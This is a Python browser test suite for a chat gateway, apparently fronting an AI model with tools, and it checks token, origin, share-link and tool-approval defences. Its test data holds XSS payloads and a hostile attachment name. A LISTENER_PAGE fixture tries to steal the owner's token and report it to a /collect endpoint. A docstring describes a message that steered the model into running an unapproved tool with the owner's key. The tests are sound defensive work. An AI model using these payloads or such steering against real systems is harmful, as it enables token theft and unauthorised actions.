"""confab-web in a real browser: headless Chromium (Debian's) through Playwright."""
import http.client
import json
import os
import sys
import time

from conftest import sign_in, wait_for

SCREENSHOTS = os.environ.get("CONFAB_WEB_SCREENSHOTS")


def new_conversation(terminal, title, profile=None):
    params = {"title": title}
    if profile:
        params["profile"] = profile
    return terminal.call("conversation.create", params)["conversation"]["id"]


def open_conversation(context, world, conversation):
    page = context.new_page()
    page.goto(world.base + "/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    return page


def reply_text(page, reply_id):
    return page.eval_on_selector("#msg-" + reply_id.replace(".", "\\.") + " .body", "e => e.textContent")


def raw_request(world, path, headers=None):
    connection = http.client.HTTPConnection("127.0.0.1", world.port, timeout=30)
    connection.request("GET", path, headers=headers or {})
    response = connection.getresponse()
    body = response.read()
    connection.close()
    return response, body


def upgrade_headers(world, origin, token=None, host=None, cookie=None):
    headers = {"Host": host or "127.0.0.1:%d" % world.port, "Connection": "Upgrade", "Upgrade": "websocket",
               "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ=="}
    if origin:
        headers["Origin"] = origin
    if token:
        headers["Sec-WebSocket-Protocol"] = "confab, confab-token." + token
    if cookie:
        headers["Cookie"] = "confab_token=" + cookie
    return headers


def owner_token(world):
    return world.owner_token


def link_token(link):
    return link.split("#token=", 1)[1]


def bearer(token):
    return {"Authorization": "Bearer " + token}


def test_no_token_gets_nothing(world):
    # The pages are shells without a secret; what they show comes with a token only.
    response, body = raw_request(world, "/?token=" + owner_token(world))
    assert response.status == 200 and response.getheader("Set-Cookie") is None
    assert owner_token(world).encode() not in body
    assert response.getheader("Content-Security-Policy").startswith("default-src 'self'")
    for headers in [{}, bearer("wrong"), bearer(""), {"Cookie": "confab_token=" + owner_token(world)}]:
        assert raw_request(world, "/api/access", headers)[0].status == 401, headers
    response, body = raw_request(world, "/api/access", bearer(owner_token(world)))
    assert response.status == 200 and json.loads(body) == {"role": "owner"}
    # The WebSocket upgrade is refused before it happens (the server library answers a
    # refused upgrade 400): no token, a wrong one, or the owner's in a cookie.
    for headers in [upgrade_headers(world, world.base), upgrade_headers(world, world.base, "wrong"),
                    upgrade_headers(world, world.base, cookie=owner_token(world))]:
        response, _ = raw_request(world, "/ws", headers)
        assert response.status != 101 and response.status >= 400
    response, _ = raw_request(world, "/ws", upgrade_headers(world, world.base, owner_token(world)))
    assert response.status == 101
    assert response.getheader("Sec-WebSocket-Protocol") == "confab"


def test_foreign_origin_websocket_is_refused(world, owner):
    token = owner_token(world)
    response, _ = raw_request(world, "/ws", upgrade_headers(world, "http://evil.example", token))
    assert response.status != 101 and response.status >= 400
    response, _ = raw_request(world, "/ws", upgrade_headers(world, None, token))
    assert response.status != 101 and response.status >= 400
    response, _ = raw_request(world, "/ws", upgrade_headers(world, world.base, token))
    assert response.status == 101
    response, _ = raw_request(world, "/ws", upgrade_headers(world, "http://localhost:%d" % world.port, token))
    assert response.status == 101
    # And from a real page of another origin: the browser's attempt fails.
    page = owner.new_page()
    page.goto("about:blank")
    outcome = page.evaluate("""url => new Promise(done => {
        const ws = new WebSocket(url);
        ws.onopen = () => done("open");
        ws.onerror = () => done("refused");
    })""", "ws://127.0.0.1:%d/ws" % world.port)
    assert outcome == "refused"
    page.close()


def test_two_pages_and_a_terminal_see_the_same_reply(world, owner):
    terminal = world.terminal("ana-terminal")
    conversation = new_conversation(terminal, "streamed")
    terminal.call("conversation.attach", {"conversation": conversation})
    first = open_conversation(owner, world, conversation)
    second = open_conversation(owner, world, conversation)
    wait_for(lambda: "ana-terminal" in first.text_content("#presence"), "presence of the terminal")
    first.fill("#input", "hello from the page [[words:80]] [[delay:15]] [[chunk:2]]")
    first.press("#input", "Enter")
    created = terminal.wait_event(lambda e: e["method"] == "message.created" and e["params"]["message"]["role"] == "user",
                                  "the page's message at the terminal")
    assert created["params"]["message"]["content"].startswith("hello from the page")
    assert created["params"]["message"]["author"]["name"] == "web:browser"
    reply = terminal.wait_event(lambda e: e["method"] == "message.created" and e["params"]["message"]["role"] == "assistant",
                                "the reply starting")["params"]["message"]["id"]
    # Mid-stream, the second page is filling in.
    wait_for(lambda: second.query_selector("#msg-%s.streaming" % reply) is not None, "a streaming reply on the second page")
    terminal.wait_event(lambda e: e["method"] == "message.completed" and e["params"]["message"]["id"] == reply, "the reply's end")
    expected = terminal.reply_text(reply)
    assert expected == " ".join("w%d" % i for i in range(1, 81))
    for page in (first, second):
        wait_for(lambda: page.query_selector("#msg-%s.complete" % reply) is not None, "the reply complete on a page")
        assert reply_text(page, reply).strip() == expected
    # Shift-Enter is a line break, not a send.
    first.fill("#input", "one")
    first.press("#input", "Shift+Enter")
    first.type("#input", "two")
    assert first.input_value("#input") == "one\ntwo"
    first.close()
    second.close()
    terminal.close()


def test_quick_reply_button_sends_its_text(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "guided", profile="guide")
    terminal.call("conversation.attach", {"conversation": conversation})
    page = open_conversation(owner, world, conversation)
    page.click(".quick button:text('go left [[reply:went left]]')")
    created = terminal.wait_event(lambda e: e["method"] == "message.created" and e["params"]["message"]["role"] == "user",
                                  "the quick reply at the terminal")
    assert created["params"]["message"]["content"] == "go left [[reply:went left]]"
    page.wait_for_selector(".msg.assistant.complete .body:has-text('went left')")
    page.close()
    terminal.close()


def test_tool_approval_from_a_page_is_seen_everywhere(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "tools", profile="helper")
    terminal.call("conversation.attach", {"conversation": conversation})
    first = open_conversation(owner, world, conversation)
    second = open_conversation(owner, world, conversation)
    terminal.call("message.send", {"conversation": conversation,
                                   "content": "weather in Paris? [[tool:guarded {\"city\":\"Paris\"}]] [[tool-text:The last readings:\n\n| city | temp | wind |\n|---|--:|:--|\n| Paris | 21 | NW 10 |\n| Lyon | 24 | S 5 |\n\nAsking the weather tool for now.]]"})
    first.wait_for_selector(".card button.approve")
    second.wait_for_selector(".card button.approve")
    if SCREENSHOTS:
        first.screenshot(path=os.path.join(SCREENSHOTS, "conversation-tool-card.png"), full_page=True)
    first.click(".card button.approve")
    approved = terminal.wait_event(lambda e: e["method"] == "tool.approved", "the approval at the terminal")
    assert approved["params"]["client"]["name"] == "web:browser"
    for page in (first, second):
        page.wait_for_selector(".card .answered:text('approved by web:browser')")
        page.wait_for_selector(".card.complete details.result")
    terminal.wait_event(lambda e: e["method"] == "tool.completed", "the tool's result")
    first.close()
    second.close()
    terminal.close()


def test_hostile_reply_is_shown_as_text(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "hostile")
    terminal.call("conversation.attach", {"conversation": conversation})
    page = owner.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    foreign = []
    page.on("request", lambda r: None if r.url.startswith(world.base) or r.url.startswith("ws://127.0.0.1:%d" % world.port) else foreign.append(r.url))
    page.goto(world.base + "/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    hostile = ("see <img src=x onerror=alert(1)> and <script>alert(2)</script> "
               "and [click](javascript:alert(3)) and &#27;[31m red ![i](http://127.0.0.9/pixel.png)")
    result = terminal.call("message.send", {"conversation": conversation, "content": "[[reply:%s]]" % hostile})
    reply = result["reply"]
    terminal.wait_event(lambda e: e["method"] == "message.completed" and e["params"]["message"]["id"] == reply, "the reply")
    page.wait_for_selector("#msg-%s.complete" % reply)
    text = reply_text(page, reply)
    assert "<img src=x onerror=alert(1)>" in text
    assert "<script>alert(2)</script>" in text
    assert "(javascript:alert(3))" in text
    assert "\u241b[31m" in text
    assert page.query_selector("#messages img") is None
    assert page.query_selector("#messages script") is None
    assert page.query_selector("#messages a[href^='javascript']") is None
    # Whatever the page might have been tricked into doing had some time to happen.
    page.click("#msg-%s .body" % reply)
    page.reload()
    page.wait_for_selector("#msg-%s.complete" % reply)
    assert dialogs == []
    assert foreign == []
    page.close()
    terminal.close()


def test_read_only_share_link(world, browser):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "shared")
    other = new_conversation(terminal, "private")
    terminal.call("conversation.attach", {"conversation": conversation})
    terminal.call("message.send", {"conversation": conversation, "content": "[[reply:visible to the share]]"})
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    assert link.startswith(world.base + "/s#token=")
    context = browser.new_context()
    page = context.new_page()
    page.goto(link)
    page.wait_for_url("**/c/" + conversation)
    page.wait_for_selector(".msg.assistant .body:has-text('visible to the share')")
    assert not page.is_visible("#composer")
    token = link_token(link)
    # The server refuses a send even when the page is made to try.
    page.evaluate("""([url, token]) => { const ws = new WebSocket(url, ["confab", "confab-token." + token]); window.probe = [];
        ws.onmessage = e => window.probe.push(JSON.parse(e.data));
        ws.onopen = () => ws.send(JSON.stringify({op: "send", text: "sneaky"})); }""",
                  ["ws://127.0.0.1:%d/ws?c=%s" % (world.port, conversation), token])
    wait_for(lambda: any(e.get("type") == "notice" and "read-only" in e.get("text", "")
                         for e in page.evaluate("window.probe")), "the refusal")
    # The gateway sends the refusal instead of the call, so once it is here no send follows.
    terminal.poll()
    assert not any(e["method"] == "message.created" and e["params"]["message"]["content"] == "sneaky" for e in terminal.events)
    # Another conversation does not exist for it, nor does the list.
    page.goto(world.base + "/c/" + other)
    page.wait_for_selector("#status:text('closed')")
    outcome = page.evaluate("""([url, token]) => new Promise(done => { const ws = new WebSocket(url, ["confab", "confab-token." + token]);
        ws.onopen = () => done("open"); ws.onerror = () => done("refused"); })""",
                            ["ws://127.0.0.1:%d/ws?c=%s" % (world.port, other), token])
    assert outcome == "refused"
    outcome = page.evaluate("""([url, token]) => new Promise(done => { const ws = new WebSocket(url, ["confab", "confab-token." + token]);
        ws.onopen = () => done("open"); ws.onerror = () => done("refused"); })""",
                            ["ws://127.0.0.1:%d/ws" % world.port, token])
    assert outcome == "refused"
    page.goto(world.base + "/")
    page.wait_for_url("**/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    # Revoked: the open page is closed and the link stops working.
    share_id = [line.split()[0] for line in world.web("shares").splitlines() if conversation in line][0]
    world.web("revoke", share_id)
    page.wait_for_selector("#status:text('closed')")
    assert "no longer works" in page.text_content("#notice")
    assert raw_request(world, "/api/access", bearer(token))[0].status == 401
    page.goto(world.base + "/c/" + conversation)
    page.wait_for_selector("#status:text('closed')")
    assert page.evaluate("localStorage.getItem('confab.links')") == "{}", "a revoked link is forgotten"
    # Expired: a link of one second.
    # (an id may be shortened to a unique prefix, as confab takes it)
    short = world.web("share", conversation[:6], "--expires", "1s").strip()
    wait_for(lambda: raw_request(world, "/api/access", bearer(link_token(short)))[0].status == 401,
             "the link to expire", timeout=30)
    page.goto(short)
    page.wait_for_selector("#status:text('closed')")
    assert "does not work" in page.text_content("#notice")
    context.close()
    terminal.close()


def test_page_catches_up_after_the_gateway_restarts_mid_reply(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "restart")
    terminal.call("conversation.attach", {"conversation": conversation})
    page = open_conversation(owner, world, conversation)
    reply = terminal.call("message.send", {"conversation": conversation, "content": "[[words:300]] [[delay:10]] [[chunk:2]]"})["reply"]
    wait_for(lambda: page.query_selector("#msg-%s.streaming" % reply) is not None and len(reply_text(page, reply)) > 10,
             "the reply streaming on the page")
    world.stop_gateway()
    page.wait_for_selector("#status:text('reconnecting…')")
    world.start_gateway()
    terminal.wait_event(lambda e: e["method"] == "message.completed" and e["params"]["message"]["id"] == reply, "the reply's end")
    page.wait_for_selector("#msg-%s.complete" % reply, timeout=60000)
    assert reply_text(page, reply).strip() == terminal.reply_text(reply)
    assert page.text_content("#status") == "live"
    page.close()
    terminal.close()


def test_list_is_live_and_phone_width(world, owner, browser):
    page = owner.new_page()
    page.goto(world.base + "/")
    page.wait_for_selector("#status:text('live')")
    terminal = world.terminal()
    conversation = new_conversation(terminal, "appears live")
    entry = ".conversations a[href='/c/%s']" % conversation
    page.wait_for_selector(entry)
    # Who is attached, and a reply streaming, show in the list as they happen.
    terminal.call("conversation.attach", {"conversation": conversation})
    page.wait_for_selector(entry + " .meta:has-text('here: terminal')")
    reply = terminal.call("message.send", {"conversation": conversation, "content": "[[words:150]] [[delay:10]]"})["reply"]
    page.wait_for_selector(entry + " .live-reply")
    if SCREENSHOTS:
        page.screenshot(path=os.path.join(SCREENSHOTS, "list.png"))
    terminal.wait_event(lambda e: e["method"] == "message.completed" and e["params"]["message"]["id"] == reply, "the reply's end")
    page.wait_for_selector(entry + " .live-reply", state="detached")
    page.close()
    phone = browser.new_context(viewport={"width": 390, "height": 760}, user_agent="Mozilla/5.0 (Linux; Android 14) Mobile")
    phone_page = phone.new_page()
    phone_page.goto(world.owner_url)
    phone_page.wait_for_selector("#status:text('live')")
    terminal.call("message.send", {"conversation": conversation,
                                   "content": "[[reply:Here is a table:\n\n| item | qty |\n|---|--:|\n| apples | 3 |\n| pears | 12 |\n\n```python\nprint('hi')\n```\n]]"})
    phone_page.goto(world.base + "/c/" + conversation)
    phone_page.wait_for_selector(".msg.assistant.complete table")
    width = phone_page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390
    if SCREENSHOTS:
        phone_page.screenshot(path=os.path.join(SCREENSHOTS, "phone.png"))
    phone.close()
    terminal.close()


def test_page_catches_up_after_confabd_restarts(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "daemon restart")
    page = open_conversation(owner, world, conversation)
    terminal.close()
    world.stop_daemon()
    page.wait_for_selector("#status:text('reconnecting…')")
    world.start_daemon()
    page.wait_for_selector("#status:text('live')", timeout=60000)
    # Caught up and usable: what is sent now is answered on the page.
    page.fill("#input", "after the restart [[reply:back again]]")
    page.press("#input", "Enter")
    page.wait_for_selector(".msg.assistant.complete .body:has-text('back again')")
    page.close()


FOREIGN_DAEMON = r"""
import json, os, socket, sys
path, log = sys.argv[1], sys.argv[2]
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind(path)
os.chmod(path, 0o777)
server.listen(8)
server.settimeout(120)
while True:
    try:
        connection, _ = server.accept()
    except socket.timeout:
        break
    connection.settimeout(5)
    buffer = b""
    try:
        while True:
            data = connection.recv(65536)
            if not data:
                break
            with open(log, "ab") as f:
                f.write(data)
            buffer += data
            while b"\n" in buffer:
                line, buffer = buffer.split(b"\n", 1)
                request = json.loads(line)
                answer = {"jsonrpc": "2.0", "id": request.get("id"),
                          "result": {"conversations": [], "messages": [], "clients": []}}
                connection.sendall((json.dumps(answer) + "\n").encode())
    except OSError:
        pass
    connection.close()
"""


def test_gateway_talks_only_to_a_daemon_of_its_own_user(world, browser):
    import shutil
    import socket
    import subprocess
    import tempfile
    from conftest import BIN, free_port
    directory = tempfile.mkdtemp(prefix="confab-web-foreign-")
    os.chmod(directory, 0o777)
    path, log = os.path.join(directory, "confabd.sock"), os.path.join(directory, "received")
    # Somebody else's "confabd": it would answer anything it is asked.
    impostor = subprocess.Popen(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                 sys.executable, "-c", FOREIGN_DAEMON, path, log])
    port = free_port()
    gateway_log = os.path.join(directory, "confab-web.log")
    wait_for(lambda: os.path.exists(path), "the other user's socket")
    gateway = subprocess.Popen([os.path.join(BIN, "confab-web"), "serve", "--config", world.config, "--socket", path,
                                "--state-dir", world.state, "--listen", "127.0.0.1:%d" % port],
                               stdout=subprocess.DEVNULL, stderr=open(gateway_log, "w"))
    def listening():
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return True
        except OSError:
            return False
    try:
        wait_for(listening, "the second gateway to listen")
        context = browser.new_context()
        page = context.new_page()
        page.goto("http://127.0.0.1:%d/#token=%s" % (port, owner_token(world)))
        # The first visit's page moves on to / by itself: wait for it rather than navigate
        # again, which would race it.
        page.wait_for_url("http://127.0.0.1:%d/" % port)
        wait_for(lambda: "served by uid 65534" in open(gateway_log).read(), "the refusal in the gateway's log")
        assert not os.path.exists(log) or open(log, "rb").read() == b"", "nothing may be sent to another user's socket"
        assert page.text_content("#status") != "live"
        context.close()
    finally:
        gateway.terminate()
        gateway.wait(timeout=30)
        impostor.terminate()
        impostor.wait(timeout=30)
        shutil.rmtree(directory, ignore_errors=True)


def test_a_write_share_link_sends_but_never_answers_a_tool_call(world, browser):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "shared tools", profile="helper")
    terminal.call("conversation.attach", {"conversation": conversation})
    link = world.web("share", conversation).strip()
    context = browser.new_context()
    page = context.new_page()
    page.goto(link)
    page.wait_for_url("**/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    page.fill("#input", "from a colleague [[tool:guarded {\"city\":\"Oslo\"}]]")
    page.press("#input", "Enter")
    sent = terminal.wait_event(lambda e: e["method"] == "message.created" and e["params"]["message"]["role"] == "user",
                               "the share link's message at the terminal")
    assert sent["params"]["message"]["author"]["name"].startswith("web:share-")
    requested = terminal.wait_event(lambda e: e["method"] == "tool.approval_requested", "the approval request")
    page.wait_for_selector(".card")
    assert page.query_selector(".card button.approve") is None, "no Approve button for a share link"
    # Made to try anyway, the gateway refuses it.
    page.evaluate("""([url, call, token]) => { const ws = new WebSocket(url, ["confab", "confab-token." + token]); window.probe = [];
        ws.onmessage = e => window.probe.push(JSON.parse(e.data));
        ws.onopen = () => ws.send(JSON.stringify({op: "approve", call: call, allow: true})); }""",
                  ["ws://127.0.0.1:%d/ws?c=%s" % (world.port, conversation), requested["params"]["call"], link_token(link)])
    wait_for(lambda: any(e.get("type") == "notice" and "owner" in e.get("text", "") for e in page.evaluate("window.probe")),
             "the refusal")
    # The owner's answer is still the one that counts.
    terminal.call("tool.approve", {"conversation": conversation, "call": requested["params"]["call"], "allow": False})
    denied = terminal.wait_event(lambda e: e["method"] in ("tool.approved", "tool.denied"), "the owner's answer")
    assert denied["method"] == "tool.denied" and denied["params"]["client"]["name"] == "terminal"
    page.wait_for_selector(".card .answered:text('denied by terminal')")
    context.close()
    terminal.close()


def test_a_write_share_links_message_waits_for_the_owner_even_for_a_tool_that_asks_nobody(world, browser):
    """The finding: through a write link, a message steering the model into an HTTP tool whose
    approval is `never` ran it at once with the owner's key. The gateway's connection for the
    page now says which link it is, and the daemon holds the call for the owner's yes."""
    terminal = world.terminal()
    conversation = new_conversation(terminal, "tickets", profile="tickets")
    terminal.call("conversation.attach", {"conversation": conversation})
    link = world.web("share", conversation).strip()
    context = browser.new_context()
    page = context.new_page()
    page.goto(link)
    page.wait_for_url("**/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    page.fill("#input", 'please look up ticket 7 [[tool:secret_echo {"q":"ticket 7"}]]')
    page.press("#input", "Enter")
    sent = terminal.wait_event(lambda e: e["method"] == "message.created" and e["params"]["message"]["role"] == "user",
                               "the share link's message at the terminal")
    author = sent["params"]["message"]["author"]
    assert author["link"] and author["login"] == "link:" + author["link"], author
    requested = terminal.wait_event(lambda e: e["method"] in ("tool.approval_requested", "tool.started"),
                                    "the call held for the owner")
    assert requested["method"] == "tool.approval_requested", "the tool ran without the owner's yes: %s" % requested
    assert requested["params"]["requested_by"]["link"] == author["link"]
    terminal.call("tool.approve", {"conversation": conversation, "call": requested["params"]["call"], "allow": False})
    denied = terminal.wait_event(lambda e: e["method"] in ("tool.approved", "tool.denied"), "the owner's answer")
    assert denied["method"] == "tool.denied"
    context.close()
    terminal.close()


def tiny_png():
    """A real 1×1 PNG, built here so the test carries no binary file."""
    import struct
    import zlib

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def put_blob(terminal, data):
    """One file stored with blob.put, in one final chunk; its sha256."""
    import base64
    upload = terminal.call("blob.put", {"data": base64.b64encode(data).decode()})["upload"]
    return terminal.call("blob.put", {"upload": upload, "data": "", "final": True})["attachment"]["sha256"]


def attachment_lines(page):
    return page.eval_on_selector_all(".msg.user .attachment .line", "els => els.map(e => e.textContent)")


def test_attachments_show_under_the_message_live_and_after_a_reload(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "files")
    terminal.call("conversation.attach", {"conversation": conversation})
    page = owner.new_page()
    dialogs = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    foreign = []
    page.on("request", lambda r: None if r.url.startswith(world.base) or r.url.startswith("ws://127.0.0.1:%d" % world.port) else foreign.append(r.url))
    page.goto(world.base + "/c/" + conversation)
    page.wait_for_selector("#status:text('live')")
    text = put_blob(terminal, b"line one\nline two\n" * 100)
    image = put_blob(terminal, tiny_png())
    hostile = "<img src=x onerror=alert(1)>.png"
    terminal.call("message.send", {"conversation": conversation, "content": "[[reply:seen]] look",
                                   "attachments": [{"name": "notes.txt", "sha256": text}, {"name": hostile, "sha256": image}]})
    expected = ["[attached: notes.txt, 1.7 KiB, text/plain]",
                "[attached: %s, %d B, image/png]" % (hostile, len(tiny_png()))]
    wait_for(lambda: attachment_lines(page) == expected, "the attachment lines, live")
    # The daemon refuses names with controls or bidi characters, so none reaches a page
    # that way; the gateway makes them visible all the same (ConversationViewTests).
    for name in ["\u202egnp.txt", "\x1b[31m.txt"]:
        try:
            terminal.call("message.send", {"conversation": conversation, "content": "x",
                                           "attachments": [{"name": name, "sha256": text}]})
            raise AssertionError("a name with a control character was stored: %r" % name)
        except RuntimeError as refused:
            assert refused.args[0]["code"] == -32602, refused
    page.reload()
    page.wait_for_selector("#status:text('live')")
    wait_for(lambda: attachment_lines(page) == expected, "the attachment lines, after a reload")
    assert page.query_selector("#messages img") is None
    page.click(".msg.user .attachment .line >> nth=1")
    assert dialogs == []
    assert foreign == []
    page.close()
    terminal.close()


MINT = """([url, token, asks]) => new Promise((done, fail) => {
    const ws = new WebSocket(url, ["confab", "confab-token." + token]);
    const urls = [];
    ws.onmessage = e => {
        const event = JSON.parse(e.data);
        if (event.type === "state") for (const ask of asks) ws.send(JSON.stringify({op: "download", message: ask[0], index: ask[1]}));
        if (event.type === "download") { urls.push(event.url); if (urls.length === asks.length) { ws.close(); done(urls); } }
    };
    ws.onerror = () => fail("refused");
})"""


def mint_tickets(page, world, conversation, token, asks):
    """One-use download addresses, asked for over a page's WebSocket as the page does."""
    return page.evaluate(MINT, ["ws://127.0.0.1:%d/ws?c=%s" % (world.port, conversation), token, asks])


def test_a_read_only_share_link_downloads_a_file_and_nobody_else_can(world, browser):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "downloads")
    other = new_conversation(terminal, "not shared")
    contents = b"<html><script>alert(1)</script></html>\n"
    stored = put_blob(terminal, contents)
    message = terminal.call("message.send", {"conversation": conversation, "content": "[[reply:ok]] a page",
                                             "attachments": [{"name": "page\".html", "sha256": stored}]})["message"]["id"]
    hidden = terminal.call("message.send", {"conversation": other, "content": "[[reply:ok]] private",
                                            "attachments": [{"name": "private.txt", "sha256": put_blob(terminal, b"secret\n")}]})["message"]["id"]
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    token = link_token(link)
    context = browser.new_context(accept_downloads=True)
    page = sign_in(context, link, world.base)
    page.wait_for_selector(".msg.user .attachment a.save")
    # No token goes in a download's address, nor in a cookie: the old forms give nothing.
    for path, headers in [("/c/%s/file/%s/0" % (conversation, message), {"Cookie": "confab_token=" + token}),
                          ("/d/" + token, {}), ("/d/", {}), ("/d/x", {"Cookie": "confab_token=" + token})]:
        assert raw_request(world, path, headers)[0].status == 404, path
    # A ticket: the bytes, once, as a download of no type a browser would render.
    first, second, missing, unknown, hidden_try = mint_tickets(
        page, world, conversation, token, [[message, 0], [message, 0], [message, 1], ["m999", 0], [hidden, 0]])
    response, body = raw_request(world, first)
    assert response.status == 200
    assert body == contents
    assert response.getheader("Content-Type") == "application/octet-stream"
    assert response.getheader("X-Content-Type-Options") == "nosniff"
    assert response.getheader("Content-Disposition") == "attachment; filename=\"page_.html\"; filename*=UTF-8''page%22.html"
    assert raw_request(world, first)[0].status == 404, "a ticket works once"
    # A file that is not there: as if none existed.
    for path in [missing, unknown]:
        assert raw_request(world, path)[0].status == 404, path
    # Another conversation's message id names the page's own conversation's message of that
    # id, if any: a ticket never reaches beyond the page's conversation.
    response, body = raw_request(world, hidden_try)
    assert body != b"secret\n" and (response.status == 404 or body == contents)
    # And from the page: the save link is a download.
    with page.expect_download() as download:
        page.click(".msg.user .attachment a.save")
    with open(download.value.path(), "rb") as saved:
        assert saved.read() == contents
    # A ticket dies with its link.
    share_id = [line.split()[0] for line in world.web("shares").splitlines() if conversation in line][0]
    world.web("revoke", share_id)
    assert raw_request(world, second)[0].status == 404
    context.close()
    terminal.close()


# --------------------------------------------------------------------------------------------
# The owner's token is the gateway origin's secret: no other port of the host ever sees it.

LISTENER_PAGE = """<!doctype html><html><head><title>landing</title></head><body><p>landing</p><script>
(async function () {
  const gateway = "http://127.0.0.1:%(gateway)d";
  const report = (what, value) => fetch("/collect?" + what + "=" + encodeURIComponent(value), {credentials: "include"});
  // Every port of 127.0.0.1 is the same site: a cookie set here goes to the gateway too.
  document.cookie = "confab_token=tossed-by-another-port; path=/; max-age=3600";
  await report("cookies", document.cookie);
  await report("referrer", document.referrer);
  await report("opener", window.opener ? "yes" : "no");
  await report("url", location.href);
  for (const path of ["/", "/api/access", "/c/%(conversation)s", "/d/x"]) {
    try {
      const answer = await fetch(gateway + path, {credentials: "include"});
      await report("read", path + " " + answer.status + " " + (await answer.text()));
    } catch (e) { await report("blocked", path); }
    await fetch(gateway + path, {credentials: "include", mode: "no-cors"}).catch(() => null);
  }
  await new Promise(done => {
    const ws = new WebSocket("ws://127.0.0.1:%(gateway)d/ws");
    ws.onopen = () => { report("ws", "open"); done(); };
    ws.onerror = () => { report("ws", "refused"); done(); };
  });
  const frame = document.createElement("iframe");
  frame.src = gateway + "/";
  document.body.appendChild(frame);
  await new Promise(done => frame.onload = done);
  try { await report("frame", frame.contentWindow.localStorage.getItem("confab.owner")); } catch (e) { await report("frame", "blocked"); }
  await fetch("/done", {credentials: "include"});
})();
</script></body></html>"""


class Listener:
    """Another service on another loopback port: it records every request it gets."""

    def __init__(self, page_for):
        import http.server
        import threading
        listener = self
        self.requests = []
        self.lock = threading.Lock()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                with listener.lock:
                    listener.requests.append((self.path, str(self.headers)))
                body = page_for(self.path).encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html" if self.path.startswith("/landing") else "text/plain")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def seen(self):
        with self.lock:
            return list(self.requests)

    def paths(self):
        return [path for path, _ in self.seen()]

    def close(self):
        self.server.shutdown()
        self.server.server_close()


def test_the_owners_token_never_reaches_another_port(world, owner):
    from urllib.parse import unquote
    terminal = world.terminal()
    conversation = new_conversation(terminal, "release notes")
    terminal.call("conversation.attach", {"conversation": conversation})
    listener = Listener(lambda path: LISTENER_PAGE % {"gateway": world.port, "conversation": conversation}
                        if path.startswith("/landing") else "ok")
    try:
        page = open_conversation(owner, world, conversation)
        # Somebody who may write here sends a link to their own service on this machine.
        landing = "http://127.0.0.1:%d/landing" % listener.port
        terminal.call("message.send", {"conversation": conversation,
                                       "content": "[[reply:The release notes are [here](%s)]]" % landing})
        link = page.wait_for_selector(".msg.assistant.complete .body a[href='%s']" % landing)
        # Marked on the page as a local address, with no referrer and no opener.
        assert "local-link" in link.get_attribute("class")
        assert set(link.get_attribute("rel").split()) >= {"noopener", "noreferrer"}
        assert page.is_visible(".msg.assistant.complete .body .local-mark")
        assert "local address" in page.text_content(".msg.assistant.complete .body .local-mark")
        # The owner clicks it; the service's page does all it can.
        with owner.expect_page() as popup:
            link.click()
        wait_for(lambda: "/done" in listener.paths(), "the other port's page to finish")
        popup.value.close()
        # And the owner's browser goes there directly too.
        direct = owner.new_page()
        direct.goto(landing + "?direct")
        wait_for(lambda: listener.paths().count("/done") >= 2, "the second visit to finish")
        direct.close()
        token = owner_token(world)
        seen = listener.seen()
        for path, headers in seen:
            assert token not in unquote(path) and token not in headers, (path, headers)
        reports = [unquote(path) for path, _ in seen if path.startswith("/collect?")]
        # It read nothing of the gateway's, could not open its WebSocket, saw no referrer.
        assert "/collect?ws=refused" in reports
        assert "/collect?referrer=" in reports
        assert "/collect?opener=no" in reports
        assert not any(r.startswith("/collect?read=") for r in reports), reports
        assert "/collect?frame=blocked" in reports
        # The cookie it set reaches the gateway and grants nothing, and the owner's page,
        # which never needed a cookie, still works.
        assert any("confab_token=tossed-by-another-port" in r for r in reports if r.startswith("/collect?cookies="))
        page.reload()
        page.wait_for_selector("#status:text('live')")
        page.fill("#input", "still here [[reply:and so am I]]")
        page.press("#input", "Enter")
        page.wait_for_selector(".msg.assistant.complete .body:has-text('and so am I')")
        page.close()
    finally:
        listener.close()
        terminal.close()


def test_a_share_link_opened_in_the_owners_browser_keeps_the_owner_signed_in(world, owner):
    terminal = world.terminal()
    conversation = new_conversation(terminal, "shared with me too")
    link = world.web("share", conversation, "--read-only", "--expires", "2h").strip()
    assert link.startswith(world.base + "/s#token=")
    shared = sign_in(owner, link, world.base)
    assert shared.url == world.base + "/c/" + conversation
    assert "readonly" in shared.get_attribute("body", "class")
    stored = shared.evaluate("[localStorage.getItem('confab.owner'), JSON.parse(localStorage.getItem('confab.links'))]")
